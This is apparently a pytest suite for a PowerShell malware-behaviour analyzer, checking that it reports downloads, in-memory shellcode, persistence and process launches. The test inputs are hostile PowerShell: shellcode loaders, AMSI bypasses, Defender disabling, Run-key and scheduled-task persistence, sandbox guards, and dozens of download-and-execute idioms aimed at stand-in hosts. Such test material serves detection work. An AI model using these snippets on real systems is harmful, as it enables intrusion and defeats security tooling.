"""What scripts do beside fetching files: code in memory, switched off scanners, persistence, files, other programs."""

from __future__ import annotations

import base64

import pytest
from evaluate.powershell.psrun import run, value

CODE = bytes(range(1, 200))
BYTES = ",".join(hex(byte) for byte in CODE)


def binaries(out):
    return [child.data for child in out.children if child.how != "simplified" and not child.kind.startswith("script")]


def test_bytes_put_into_memory_by_functions_that_are_imported():
    out = run(
        '$d=\'[DllImport("kernel32.dll")]public static extern IntPtr VirtualAlloc(IntPtr a, uint b, uint c, uint d);[DllImport("kernel32.dll")]'
        'public static extern IntPtr CreateThread(IntPtr a, uint b, IntPtr c, IntPtr d, uint e, IntPtr f);[DllImport("msvcrt.dll")]'
        "public static extern IntPtr memset(IntPtr a, uint b, uint c);';$w=Add-Type -memberDefinition $d -Name W -namespace F -passthru;"
        f"[Byte[]]$z={BYTES};$g=0x1000;if($z.Length -gt 0x1000){{$g=$z.Length}};$x=$w::VirtualAlloc(0,0x1000,$g,0x40);"
        "for($i=0;$i -le ($z.Length-1);$i++){$w::memset([IntPtr]($x.ToInt32()+$i),$z[$i],1)};$w::CreateThread(0,0,$x,0,0,0);for(;;){Start-sleep 60}"
    )
    assert out.values("effect.load") == ["shellcode of 199 bytes"]
    assert CODE in binaries(out)
    assert not out.problems


def test_bytes_called_through_a_delegate():
    out = run(
        "function f($m,$p){$a=([AppDomain]::CurrentDomain.GetAssemblies()|?{$_.GlobalAssemblyCache -And $_.Location.Split('\\\\')[-1].Equals('System.dll')})"
        ".GetType('Microsoft.Win32.UnsafeNativeMethods');$a.GetMethod('GetProcAddress').Invoke($null,@($a.GetMethod('GetModuleHandle').Invoke($null,@($m)),$p))};"
        f"[Byte[]]$c=[Convert]::FromBase64String('{base64.b64encode(CODE).decode()}');"
        "$v=[Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer((f kernel32.dll VirtualAlloc),$t).Invoke([IntPtr]::Zero,$c.Length,0x3000,0x40);"
        "[Runtime.InteropServices.Marshal]::Copy($c,0,$v,$c.length);"
        "[Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($v,$t).Invoke([IntPtr]::Zero)"
    )
    assert out.values("effect.load") == ["shellcode of 199 bytes"]
    assert CODE in binaries(out)


def test_assemblies_loaded_from_bytes():
    packed = base64.b64encode(b"MZ" + CODE).decode()
    out = run(f"$a=[Reflection.Assembly]::Load([Convert]::FromBase64String('{packed}'));[X.Y]::Run('http://a.example.test/')")
    assert out.values("effect.load") == ["assembly of 201 bytes"]
    assert b"MZ" + CODE in binaries(out)


@pytest.mark.parametrize(
    "text",
    [
        "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
        "[Ref].Assembly.GetType('System.Management.Automation.'+$('Ams'+'iUtils')).GetField($('am'+'siInitFailed'),'NonPublic,Static').SetValue($null,$true)",
        (
            "$x=[Ref].Assembly.GetTypes();foreach($t in $x){if($t.Name -like '*iUtils'){$c=$t}};[Ref].Assembly.GetType('System.Management.Automation.Utils')"
            ".GetField('cachedGroupPolicySettings','NonPublic,Static').GetValue($null)"
        ),
    ],
)
def test_scanning_and_logging_switched_off(text):
    assert run(text).values("evade.amsi")


def test_windows_defender():
    assert run("Set-MpPreference -DisableRealtimeMonitoring $true").values("evade.defender")
    assert run("Add-MpPreference -ExclusionPath 'C:\\Users\\Public'").values("evade.defender")


def test_registry_tasks_and_files():
    out = run(
        "New-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name upd -Value 'mshta http://a.example.test/x' -Force;"
        "schtasks /create /tn upd /tr 'C:\\x.exe' /sc minute;"
        "Set-Content $env:TEMP\\a.vbs 'MsgBox 1';wscript $env:TEMP\\a.vbs;"
        "[IO.File]::WriteAllBytes('C:\\ProgramData\\b.dll',[Convert]::FromBase64String('TVqQ'));regsvr32 /s C:\\ProgramData\\b.dll"
    )
    assert "mshta http://a.example.test/x" in out.facts("effect.registry")[0].value + str(out.facts("effect.registry")[0].detail)
    assert out.values("effect.schedule") == [r"C:\x.exe"]
    assert out.values("effect.write") == [r"C:\Users\tanaka\AppData\Local\Temp\a.vbs", r"C:\ProgramData\b.dll"]
    assert b"MZ\x90" in binaries(out)
    assert [line.split()[0].lower() for line in out.values("effect.run")] == ["schtasks", "wscript", "regsvr32"]


@pytest.mark.parametrize(
    "text",
    [
        "(New-Object Net.WebClient).DownloadString('http://a.example.test/x')",
        "Invoke-WebRequest http://a.example.test/x -OutFile C:\\x.exe",
        "iwr -Uri http://a.example.test/x",
        "curl http://a.example.test/x -o C:\\x",
        "Invoke-RestMethod -Method Get http://a.example.test/x",
        "Start-BitsTransfer -Source http://a.example.test/x -Destination C:\\x.exe",
        "[Net.WebRequest]::Create('http://a.example.test/x').GetResponse()",
        "$h=New-Object -ComObject MSXML2.XMLHTTP;$h.open('GET','http://a.example.test/x',$false);$h.send()",
        "(New-Object Net.Http.HttpClient).GetStringAsync('http://a.example.test/x').Result",
        "$w=New-Object Net.WebClient;$w.BaseAddress='http://a.example.test/';$w.OpenRead('http://a.example.test/x')",
        "[Net.WebClient]::new().DownloadData('http://a.example.test/x')",
        "[UriBuilder]::new('http','a.example.test',80,'x').Uri|%{irm $_}",
        "$u=[UriBuilder]'http://b.example.test:8080/y';$u.Host='a.example.test';$u.Port=80;$u.Path='/x';iwr $u.Uri",
        "(New-Object Microsoft.VisualBasic.Devices.Network).DownloadFile('http://a.example.test/x','C:\\x.exe')",
        "(New-Object Xml.XmlDocument).Load('http://a.example.test/x')",
        "([xml]'<a><b>http://a.example.test/x</b></a>').a.b|%{iwr $_}",
        "$d=[xml]'<a><b k=\"http://a.example.test/x\"/><b/></a>';iwr $d.SelectNodes('//b')[0].k",
        "trap{iwr $_.Exception.Message;continue};throw 'http://a.example.test/x'",
        "$s=New-PSSession;icm $s {iwr http://a.example.test/x}",
        "&(gcm i*x) 'iwr http://a.example.test/x'",
        "(New-Object Net.WebClient).PSObject.Methods['DownloadString'].Invoke('http://a.example.test/x')",
        "(New-Object Net.WebClient).PSObject.Methods|?{$_.Name -like 'DownloadD*a'}|%{$_.Invoke('http://a.example.test/x')}",
        "$d=[Delegate]::CreateDelegate([Func[string,string]],(New-Object Net.WebClient),'DownloadString');$d.Invoke('http://a.example.test/x')",
        "$c=gc $MyInvocation.MyCommand.Definition -Raw;iex $c.Substring($c.LastIndexOf('#')+1)\n#iwr http://a.example.test/x",
        "gc $PSCommandPath|select -Last 1|%{$_.TrimStart('#')}|iex\n#iwr http://a.example.test/x",
        "if(Test-Path $env:APPDATA\\Zork){exit};iwr http://a.example.test/x",
        "if(!(Test-Path $env:APPDATA\\Zork)){iwr http://a.example.test/x}",
        "&$ExecutionContext.InvokeCommand.GetCommandName('I*e-W*t',1,1) http://a.example.test/x",
    ],
)
def test_ways_to_download(text):
    assert run(text).urls == ["http://a.example.test/x"]


@pytest.mark.parametrize(
    "text",
    [
        "Start-Process C:\\x.exe",
        "saps C:\\x.exe",
        "& C:\\x.exe",
        "C:\\x.exe",
        "Invoke-Item C:\\x.exe",
        "[Diagnostics.Process]::Start('C:\\x.exe')",
        "(New-Object -ComObject WScript.Shell).Run('C:\\x.exe',0)",
        "(New-Object -com Shell.Application).ShellExecute('C:\\x.exe')",
        "([wmiclass]'Win32_Process').Create('C:\\x.exe')",
        "Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'C:\\x.exe'",
        "Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='C:\\x.exe'}",
        "$p=New-Object Diagnostics.Process;$p.StartInfo.FileName='C:\\x.exe';$p.Start()",
        "cmd /c C:\\x.exe",
        "$env:d='C:'; & $env:d\\x.exe",
        "$d='C:'; .${d}\\x.exe",
    ],
)
def test_ways_to_start_a_program(text):
    assert any("C:\\x.exe" in line for line in run(text).values("effect.run"))


@pytest.mark.parametrize(
    "text",
    [
        "if((Get-WmiObject Win32_ComputerSystem).Model -match 'VMware'){exit};if($env:USERDOMAIN -ne 'CORP-X'){exit};iwr http://a.example.test/x",
        "if($env:USERDOMAIN -ne 'CORP-X'){exit}\niwr http://a.example.test/x",
        "if($env:USERNAME -eq 'somebody'){iwr http://a.example.test/x}",
        "if((Get-Culture).Name -eq 'it-IT'){iwr http://a.example.test/x}else{exit}",
        "if((Get-Date).Year -gt 2030){exit};iwr http://a.example.test/x",
        "if ((Get-Date).Ticks -lt (Get-Date -Date '18-jan-2017 00:00:00').Ticks) {iwr http://a.example.test/x};",
    ],
)
def test_guards_do_not_hide_what_comes_behind(text):
    assert run(text).urls == ["http://a.example.test/x"]


@pytest.mark.parametrize(
    ("expression", "result"),
    [
        ("1..3 -join ','", "1,2,3"),
        ("'{0:x2}-{1,4}|{2,-3}|' -f 10,'a','b'", "0a-   a|b  |"),
        ("'abc'[-1..-3] -join ''", "cba"),
        ("[int]'0x10' + 1", "17"),
        ("5 / 2", "2.5"),
        ("6 / 2", "3"),
        ("'5' + 2", "52"),
        ("2 + '5'", "7"),
        ("'a' * 3", "aaa"),
        ("(1,2,3 | ? { $_ -gt 1 }) -join '+'", "2+3"),
        ("@{a=1;b=2}['b']", "2"),
        ("'a,b;c' -split '[,;]' -join '|'", "a|b|c"),
        ("'AbC' -creplace '[A-Z]','_'", "_b_"),
        ("'x1y22' -replace '(\\d+)','<$1>'", "x<1>y<22>"),
        ("[regex]::Unescape('\\x41\\u0042')", "AB"),
        ("[Text.Encoding]::ASCII.GetString((72,105))", "Hi"),
        ("[BitConverter]::ToString((1,171))", "01-AB"),
        ("[uri]::UnescapeDataString('a%20b')", "a b"),
        ("'abc'.Substring(1).ToUpper().PadLeft(4,'*')", "**BC"),
        ("$(switch('b'){'a'{1}'b'{2}default{3}})", "2"),
        ("$(try{throw 'x'}catch{\"got $_\"})", "got x"),
        ("$(function f($a,$b=2){$a*$b}; f 4)", "8"),
        ("$($x=@{p='v'}; \"$($x.p) and $x\")", "v and System.Collections.Hashtable"),
        ("0x41 -bxor 0x13", "82"),
        ("7 -band 3 -bor 8", "11"),
        ("-not $false -and (1 -eq 1)", "True"),
        ("(Get-Date).GetType().Name", "DateTime"),
        ("'abc' -like 'a*'", "True"),
        ("$env:PUBLIC", r"C:\Users\Public"),
        ("[math]::Round(2.5)", "2"),
        ("[int]2.5", "2"),
        ("[int]3.5", "4"),
        ("'10' -eq 10", "True"),
        ("(3,1,2|sort) -join ''", "123"),
        ("('a b c'.Split())[1]", "b"),
        ("[string]::Format('{0}{1}','a',1)", "a1"),
        ("[array]('a','b').Length", "2"),
        ("\"a`tb$('c'*2)\"", "a\tbcc"),
        ("$(1,2,3)[-1]", "3"),
        ("(& {param($a) $a+1} 4)", "5"),
        ("(@('72','105')*40|%{[char][int]$_})[78,79] -join ''", "Hi"),
        ("(@(72,'72')*40|%{$_+1})[0,1,78] -join ' '", "73 721 73"),
        ("(@(1,2)*50|%{$_ -bxor 4}|measure -sum).Sum", "550"),
        ("('abc'[2..0] + 'abc'[1,9]) -join ''", "cbab"),
        ("(1,$null,3)[0..2].Count", "2"),
        ("$($d=@{};'ab'.ToCharArray()|%{$i=0}{$d[$i]=$_;$i++};$d[1]+$d[0]+$i)", "ba2"),
        ("(1..3|%{'b'}{$_}{'e'}) -join ''", "b123e"),
        ("$($a='a','b','c';$i=0;$a[$i++]+$a[$i++]+$a[++$i-1]+$i++) + \"[$($i++)]$i\"", "abc3[]5"),
        ("$($a=1;$a+=2;$a++;$a)", "4"),
        ("[Convert]::ToString(10,2)", "1010"),
        ("[Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes('a'))", "YQA="),
    ],
)  # fmt: skip
def test_values(expression, result):
    assert value(expression) == result


@pytest.mark.parametrize(
    ("text", "said"),
    [("$a='x';$key='abc", ["cut off"]), ('$a="x";$key="abc', ["cut off"]), ("$a='x';$key='abc'", []), ("Write-Host don't\nexit", [])],
)
def test_a_script_that_ends_inside_a_text(text, said):
    assert [problem.name for problem in run(text).problems] == said


@pytest.mark.parametrize(
    "script",
    [
        "param([string]$a = )\n{0}",
        "param([ValidateSet('a')\n{0}",
        "param(=)\n{0}",
        "try {{ [IO.MemoryStream]::new($null).Write($null, 0, 3) }} catch {{ }}\n{0}",
        "try {{ $a = New-Object IO.StreamReader }} catch {{ }}\n{0}",
        "try {{ $a = [Security.Cryptography.Aes]::Create(); $a.CreateDecryptor($null, $null) }} catch {{ }}\n{0}",
    ],
)
def test_what_is_broken_or_makes_no_sense_costs_itself(script: str) -> None:
    ran = run(script.format("(New-Object Net.WebClient).DownloadFile('http://a.example.test/x', 'C:\\a.exe')"))
    assert ran.urls == ["http://a.example.test/x"]


LIBRARY = """
function Get-Part($Name, $To = 'C:\\ProgramData\\a.exe') { (New-Object Net.WebClient).DownloadFile('http://a.example.test/' + $Name, $To) }
function Get-Other { param($Url) Invoke-WebRequest $Url -OutFile C:\\b.txt }
function Start-Both { Get-Part one; Start-Process 'C:\\ProgramData\\a.exe' $args[0] }
function Test-Long { for (;;) { $x += 1 } }
"""


def test_functions_nobody_calls_are_told_as_guesses():
    out = run(LIBRARY)
    told = {(fact.value, fact.confidence) for fact in out.facts("effect.download")}
    assert told == {("http://a.example.test/<Unknown: argument of the caller>", 0.4), ("http://a.example.test/one", 0.4)}
    assert [fact.value.split()[0] for fact in out.facts("effect.run")] == ["C:\\ProgramData\\a.exe"]
    assert not out.problems


def test_functions_nobody_calls_are_left_alone_where_the_script_does_something():
    out = run(LIBRARY + "Start-Process calc")
    assert out.values("effect.run") == ["calc"]
    assert not out.urls


@pytest.mark.parametrize(
    ("text", "url"),
    [
        ("$s=(New-Object Net.Sockets.TcpClient('a.example.test',80)).GetStream();$w=New-Object IO.StreamWriter $s;$w.Write(\"GET /1 HTTP/1.1`r`nHost: a.example.test`r`n`r`n\");iex (New-Object IO.StreamReader $s).ReadToEnd()", "http://a.example.test/1"),
        ("$s=New-Object Net.Sockets.Socket('InterNetwork','Stream','Tcp');$s.Connect('192.0.2.7',8080);$s.Send([Text.Encoding]::ASCII.GetBytes(\"GET /x HTTP/1.0`n`n\"))", "http://192.0.2.7:8080/x"),
        ("$c=New-Object Net.Sockets.TcpClient 'a.example.test',443;$s=New-Object Net.Security.SslStream($c.GetStream());$w=New-Object IO.StreamWriter $s;$w.WriteLine('GET /1 HTTP/1.1');$w.Flush()", "https://a.example.test/1"),
        (r"Copy-Item \\a.example.test@SSL\DavWWWRoot\x.exe C:\x.exe", "https://a.example.test/x.exe"),
        (r"gc \\a.example.test@8080\dav\x.ps1 -raw | iex", "http://a.example.test:8080/dav/x.ps1"),
        ("$w=New-Object Net.WebClient;($w.PSObject.Methods|?{$_.Name -clike 'D*g'}).Invoke('http://a.example.test/1')|iex", "http://a.example.test/1"),
        ("$s=[Net.WebClient].InvokeMember('',[Reflection.BindingFlags]::CreateInstance,$null,$null,$null);$s.DownloadString('http://a.example.test/1')", "http://a.example.test/1"),
        ("$t=([AppDomain]::CurrentDomain.GetAssemblies()|?{$_.FullName -like 'System,*'}).GetType('System.Net.WebClient');[Activator]::CreateInstance($t).DownloadString('http://a.example.test/1')", "http://a.example.test/1"),
        ("$w=New-Object Net.WebClient;Register-ObjectEvent $w DownloadStringCompleted -Action {iex $EventArgs.Result};$w.DownloadStringAsync([uri]'http://a.example.test/1')", "http://a.example.test/1"),
        ("(New-Object Xml.Xsl.XslCompiledTransform).Load('http://a.example.test/1')", "http://a.example.test/1"),
        ("Add-Type 'using System.Net;public class K{public static string G(string u){return new WebClient().DownloadString(u);}}';iex ([K]::G('http://a.example.test/1'))", "http://a.example.test/1"),
        ("Add-Type 'public class K{public void G(){new System.Net.WebClient().DownloadFile(\"http://a.example.test/1\",\"C:\\\\x.exe\");}}';(New-Object K).G()", "http://a.example.test/1"),
        ("Add-Type 'public class K : System.Net.WebClient { }';(New-Object K).DownloadString('http://a.example.test/1')", "http://a.example.test/1"),
    ],
)  # fmt: skip
def test_downloads_by_hand(text, url):
    assert run(text).urls == [url]


def test_a_share_of_the_own_network_is_no_download():
    assert run(r"Copy-Item \\server\tools\x.exe C:\x.exe").urls == []


@pytest.mark.parametrize(
    "text",
    [
        "$env:zq='INERT'; cmd /c 'echo %zq%'",
        "[Environment]::SetEnvironmentVariable('zq','INERT','Process'); cmd /v:on /c 'echo !zq!'",
        "Set-Item env:zq INERT; Start-Process cmd '/c echo %zq%'",
    ],
)
def test_programs_see_the_environment_of_the_script(text):
    started = next(child.data.decode() for child in run(text).children if child.kind == "script.cmd")
    assert started.replace('"', "").endswith("echo INERT")


@pytest.mark.parametrize(
    ("text", "evaluated"),
    [
        (r"iex (gc \\files.example.test\share\a.ps1 -Raw)", r"<Unknown: content of file \\files.example.test\share\a.ps1>"),
        ("iex ((certutil -ping http://a.example.test/ | select -Skip 2 | select -SkipLast 1) -join '')", "<Unknown: output of certutil>"),
        ("&(nslookup -querytype=txt a.example.test | findstr '\"')", "<Unknown: output of nslookup>"),
    ],
)
def test_what_comes_from_elsewhere_is_run(text, evaluated):
    assert run(text).values("effect.eval") == [evaluated]


def test_programs_started_by_compiled_code():
    code = r'using System.Diagnostics; public class K { public static void G() { Process.Start("cmd", "/c echo C:\\a"); } }'
    assert run(f"Add-Type -TypeDefinition '{code}'; [K]::G()").values("effect.run") == ["K::G()", r"cmd /c echo C:\a"]


@pytest.mark.parametrize(
    "text",
    [
        "gc C:\\pub\\b.ps1 | iex",
        "iex (Get-Content C:\\pub\\b.ps1 -Raw)",
        "iex ([IO.File]::ReadAllText('C:\\pub\\b.ps1'))",
        "& ([scriptblock]::Create((gc C:\\pub\\b.ps1)))",
    ],
)
def test_a_file_that_is_not_here_is_told_by_its_name(text):
    """It may lie there because something else brought it, and then its content is what runs."""
    assert run(text).values("effect.eval")[-1].count("<Unknown: content of file C:\\pub\\b.ps1>")


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("-join('a','B',3,[char]'c','zz'|%{switch($_){'a'{1}'b'{2}'C'{3}'3'{'n'}'B'{'again'}default{'d'}}})", "12againn3d"),
        ("-join(1,2,'1'|%{switch($_){1{'a'}2{'b'}1{'c'}}})", "acbac"),
        ("-join('a','A'|%{switch -CaseSensitive ($_){'A'{1}default{0}}})", "01"),
        ('$(try{throw 1}catch{$x=1;"$?"})', "True"),
    ],
)
def test_what_switch_and_the_outcome_of_statements_come_to(text, said):
    assert value(text) == said


def test_powershell_that_calls_powershell_with_what_it_works_out():
    text = "powershell -enc ([Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes('irm http://a.example.test/|iex')))"
    assert run(text).urls == ["http://a.example.test/"]


@pytest.mark.parametrize(
    ("text", "peer"),
    [
        ("$r=(New-Object Net.NetworkInformation.Ping).Send('192.0.2.7',9,[byte[]](1));iex ([Text.Encoding]::ASCII.GetString($r.Buffer))", "192.0.2.7"),
        ("$n=New-Object IO.Pipes.NamedPipeClientStream('192.0.2.7','a','InOut');$n.Connect();iex (New-Object IO.StreamReader($n)).ReadLine()", r"\\192.0.2.7\pipe\a"),
        (
            ("$w=New-Object Net.WebSockets.ClientWebSocket;$c=[Threading.CancellationToken]::None;$w.ConnectAsync('wss://a.example.test/x',$c).Wait();$b=New-Object byte[] 99;"
            "$n=$w.ReceiveAsync((New-Object ArraySegment[byte] -ArgumentList @(,$b)),$c).Result.Count;iex ([Text.Encoding]::UTF8.GetString($b,0,$n))"),
            "wss://a.example.test/x",
        ),
    ],
)  # fmt: skip
def test_what_comes_over_pings_pipes_and_web_sockets_is_run(text, peer):
    out = run(text)
    assert out.values("effect.connect") == [peer]
    assert f"data received from {peer}" in out.values("effect.eval")[-1]
